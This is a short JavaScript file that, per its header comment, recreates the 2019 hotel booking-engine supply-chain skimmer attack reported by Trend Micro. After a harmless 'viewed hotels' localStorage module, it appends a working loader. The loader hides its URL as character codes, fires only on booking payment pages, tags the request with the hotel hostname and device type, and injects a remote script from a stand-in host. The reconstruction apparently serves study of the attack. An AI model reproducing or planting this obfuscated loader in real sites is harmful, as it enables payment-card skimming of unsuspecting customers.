// roomleader-hotel, written from Trend Micro's report on the skimmer injected into hotel
// booking sites through a booking-engine provider (Joseph C. Chen, September 2019): the
// provider's "viewed hotels" module, a script served to its hotel chains' sites, had code
// added that, only on the booking engine's payment step, loads the skimmer from the
// attackers' server. Here: a short stand-in for the module, then the added loader, which
// builds its URL from character codes and tags the request with the hotel site and device.
var ViewedHotels = (function () {
  var KEY = "rl_viewed_hotels";
  function list() {
    try { return JSON.parse(localStorage.getItem(KEY)) || []; } catch (e) { return []; }
  }
  return {
    add: function (id, name) {
      var l = list().filter(function (h) { return h.id !== id; });
      l.unshift({ id: id, name: name, t: Date.now() });
      localStorage.setItem(KEY, JSON.stringify(l.slice(0, 6)));
    },
    render: function (el) {
      if (!el) return;
      el.innerHTML = list().map(function (h) { return "<li data-id='" + h.id + "'>" + h.name + "</li>"; }).join("");
    }
  };
})();
(function () {
  var step = location.href.toLowerCase();
  if (step.indexOf("booking") < 0 && step.indexOf("reserva") < 0) return;
  if (step.indexOf("payment") < 0 && step.indexOf("pago") < 0 && step.indexOf("step=3") < 0) return;
  var c = [104, 116, 116, 112, 115, 58, 47, 47, 98, 111, 111, 107, 105, 110, 103, 45, 101, 110, 103, 105, 110,
    101, 45, 115, 116, 97, 116, 105, 99, 46, 105, 110, 118, 97, 108, 105, 100, 47, 118, 104, 47, 109, 111,
    100, 117, 108, 101, 46, 106, 115];
  var src = String.fromCharCode.apply(null, c);
  var mob = /Android|iPhone|iPad|Mobile/i.test(navigator.userAgent) || screen.width < 768;
  var s = document.createElement("script");
  s.src = src + "?h=" + encodeURIComponent(location.hostname) + "&m=" + (mob ? 1 : 0) + "&r=" + Math.random().toString(36).slice(2);
  s.async = true;
  document.getElementsByTagName("head")[0].appendChild(s);
})();
